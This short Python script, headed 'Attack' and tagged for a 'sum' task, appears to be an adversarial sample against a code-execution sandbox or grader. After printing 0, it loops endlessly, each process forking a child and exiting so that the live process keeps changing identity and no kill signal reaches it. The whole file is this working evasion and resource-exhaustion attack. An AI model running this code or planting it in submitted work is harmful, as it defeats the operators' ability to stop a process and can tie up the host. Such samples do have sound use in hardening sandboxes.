# Attack: a process that is always another one: each forks the next and ends, so no signal finds it.
# task: sum
import os

print(0, flush=True)
while True:
    try:
        if os.fork():
            os._exit(0)
    except OSError:
        pass
